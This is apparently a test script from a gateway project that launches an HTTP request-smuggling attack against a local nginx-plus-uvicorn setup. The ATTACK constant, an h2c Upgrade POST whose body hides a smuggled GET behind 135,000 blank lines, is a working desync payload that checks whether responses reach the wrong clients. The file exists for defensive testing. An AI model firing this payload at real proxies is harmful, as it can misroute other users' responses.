"""A request smuggling attack on a gateway behind an nginx that forwards Upgrade.

`python -m tests.faults.smuggling FOLDER RESPONSES [--uvicorn]` prints, as JSON, how many responses
reached the client whose request they belong to. Each request has an id that its response repeats.
With --uvicorn the gateway runs on uvicorn's unmodified protocol.
"""

import asyncio
import json
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from itertools import count
from pathlib import Path

import uvicorn

from pokewatch.gateway.app import create_app
from pokewatch.gateway.auth.keys import KeyStore
from pokewatch.gateway.server import uvicorn_config
from pokewatch.settings import GatewaySettings
from tests import nginx
from tests.serving.server import free_ports

CALLERS, ATTACKERS = 24, 2
HTTP = """\
    client_max_body_size 1m;
    map $http_upgrade $connection_upgrade {{ default upgrade; '' ''; }}
    upstream gateway {{ server 127.0.0.1:{gateway}; keepalive 16; }}
    server {{
        listen 127.0.0.1:{port};
        keepalive_requests 1000000;
        location / {{
            proxy_pass http://gateway;
            proxy_http_version 1.1;
            proxy_set_header Upgrade $http_upgrade;
            proxy_set_header Connection $connection_upgrade;
        }}
    }}
"""
# Blank lines before a request are skipped: after any read, the rest is a complete request.
SMUGGLED = (
    b"\r\n" * 135_000 + b"GET /openapi.json HTTP/1.1\r\nHost: x\r\nX-Request-Id: smuggled\r\n\r\n"
)
ATTACK = (
    b"POST /fair_price HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n"
    b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(SMUGGLED), SMUGGLED)
)


@contextmanager
def running(*command: str) -> Iterator[None]:
    process = subprocess.Popen(command)
    try:
        yield
    finally:
        process.terminate()
        process.wait(20)


async def answer(reader: asyncio.StreamReader) -> tuple[int, str]:
    """Return the status of the next response, and the request id in it."""
    head = (await reader.readuntil(b"\r\n\r\n")).decode().lower().split("\r\n")
    fields = dict(line.split(": ", 1) for line in head[1:] if line)
    await reader.readexactly(int(fields["content-length"]))
    return int(head[0].split()[1]), fields.get("x-request-id", "")


async def call(port: int, numbers: Iterator[int], total: int, found: Counter[str]) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    for number in numbers:
        if number >= total:
            break
        writer.write(b"GET /health HTTP/1.1\r\nHost: x\r\nX-Request-Id: call-%d\r\n\r\n" % number)
        status, request_id = await answer(reader)
        if status == 502:  # from nginx: the gateway did not respond
            found["none"] += 1
        else:
            found["right" if (status, request_id) == (200, f"call-{number}") else "wrong"] += 1
    writer.close()


async def attack(port: int, found: Counter[str]) -> None:
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            while True:
                writer.write(ATTACK)
                status, _ = await answer(reader)
                found[f"attack {status}"] += 1
        except (OSError, asyncio.IncompleteReadError):
            continue


async def measure(port: int, answers: int) -> Counter[str]:
    found: Counter[str] = Counter()
    numbers = count()
    attackers = [asyncio.create_task(attack(port, found)) for _ in range(ATTACKERS)]
    async with asyncio.timeout(380):
        await asyncio.gather(*(call(port, numbers, answers, found) for _ in range(CALLERS)))
    for attacker in attackers:
        attacker.cancel()
    await asyncio.gather(*attackers, return_exceptions=True)
    return found


def serve(folder: Path, port: int, on_uvicorn: bool) -> None:
    settings = GatewaySettings.read(
        mlserver_url="http://127.0.0.1:9",
        access_log=False,
        gateway_port=port,
        failed_key_rate="1000000/second",
    )
    app = create_app(settings, KeyStore(folder / "keys.sqlite"))
    uvicorn.Server(
        uvicorn_config(app, settings, **({"http": "httptools"} if on_uvicorn else {}))
    ).run()


async def reachable(port: int) -> None:
    async with asyncio.timeout(30):
        while True:
            try:
                _, writer = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                await asyncio.sleep(0.05)
            else:
                writer.close()
                return


def run(folder: Path, answers: int, more: list[str]) -> Counter[str]:
    gateway, port = free_ports(2)
    http = HTTP.format(gateway=gateway, port=port)
    config = nginx.write_config(folder, http, main="master_process off;")
    served = [
        sys.executable,
        "-m",
        "tests.faults.smuggling",
        "serve",
        str(folder),
        str(gateway),
        *more,
    ]
    with running(*served), running("nginx", "-c", str(config)):
        asyncio.run(reachable(gateway))
        asyncio.run(reachable(port))
        return asyncio.run(measure(port, answers))


if __name__ == "__main__":
    if sys.argv[1] == "serve":
        serve(Path(sys.argv[2]), int(sys.argv[3]), "--uvicorn" in sys.argv)
    else:
        json.dump(run(Path(sys.argv[1]), int(sys.argv[2]), sys.argv[3:]), sys.stdout)
